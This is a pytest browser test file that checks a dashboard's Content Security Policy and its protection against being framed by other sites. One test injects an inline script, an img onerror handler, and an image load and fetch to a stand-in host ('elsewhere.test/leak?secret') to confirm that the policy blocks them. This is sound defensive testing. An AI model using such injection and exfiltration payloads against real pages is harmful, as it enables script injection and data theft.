"""The browser is told to run nothing but our own scripts and to frame us nowhere; every page works under that."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Callable, Iterator
from typing import Any

import pytest

from tests.browser.conftest import REPO, Dashboard, Watched, settled
from tests.browser.scenario import a_rich_case
from tests.stored import renamed

pytestmark = [pytest.mark.browser, pytest.mark.slow]

PAGES = sorted(p.stem for p in (REPO / "pages").glob("*.py") if p.stem != "__init__")
LISTEN = """window.refused = [];
document.addEventListener('securitypolicyviolation', (e) => window.refused.push(`${e.effectiveDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));"""


@pytest.fixture(scope="module")
def dashboard(start_dashboard: Callable[..., Dashboard]) -> Dashboard:
    """Judged traces with all five verdicts, so that charts, tables and the viewer are drawn."""
    case = a_rich_case()
    return start_dashboard(case, renamed(case, "tr-0418"), renamed(case, "tr-0419"))


@pytest.fixture
def framing_site(dashboard: Dashboard) -> Iterator[str]:
    """Another origin whose page shows ours in a frame."""

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = f"<!doctype html><iframe id=f src='{dashboard.url}/' width=800 height=600></iframe>".encode()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: Any) -> None:
            """Quiet."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/"
    server.shutdown()
    server.server_close()


@pytest.mark.parametrize("name", PAGES)
def test_no_page_breaks_the_policy(dashboard: Dashboard, watched: Watched, name: str) -> None:
    """Widgets, tables, Plotly and the viewer need nothing that the policy forbids."""
    page = watched.page
    page.add_init_script(LISTEN)
    page.goto(f"{dashboard.url}/{'' if name == 'overview' else name}")
    settled(page)
    page.wait_for_selector("h1", state="attached")
    if name == "overview":
        page.wait_for_selector(".js-plotly-plot", state="attached")
    if name == "inspector":
        page.get_by_text("90 days").first.wait_for()

    assert [] == page.evaluate("window.refused")
    assert [] == watched.problems


def test_the_policy_is_in_force(dashboard: Dashboard, watched: Watched) -> None:
    """A script written into the page does not run, no picture comes from elsewhere, and nothing can be sent elsewhere."""
    page = watched.page
    page.add_init_script(LISTEN)
    page.goto(f"{dashboard.url}/overview")
    settled(page)
    page.evaluate("""async () => {
      const script = document.createElement('script'); script.textContent = 'window.ran = 1'; document.body.append(script);
      const handler = document.createElement('div'); handler.innerHTML = '<img src=x onerror="window.ran = 2">'; document.body.append(handler);
      const picture = new Image(); picture.src = 'http://elsewhere.test/leak.png?secret'; document.body.append(picture);
      await fetch('http://elsewhere.test/leak').catch(() => 0);
    }""")
    page.wait_for_function("window.refused.length >= 4")

    assert page.evaluate("window.ran") is None
    assert {"script-src-elem", "script-src-attr", "img-src", "connect-src"} <= {line.split()[0] for line in page.evaluate("window.refused")}


def test_no_other_site_frames_the_dashboard(framing_site: str, watched: Watched) -> None:
    """Clicks cannot be stolen through an invisible frame."""
    said: list[str] = []
    watched.page.on("console", lambda m: said.append(m.text))
    watched.page.goto(framing_site)
    frame = watched.page.query_selector("#f").content_frame()
    watched.page.wait_for_timeout(500)

    assert frame.query_selector("[data-testid=stApp]") is None
    assert any("frame-ancestors" in line or "X-Frame-Options" in line or "refused" in line.lower() for line in said), said
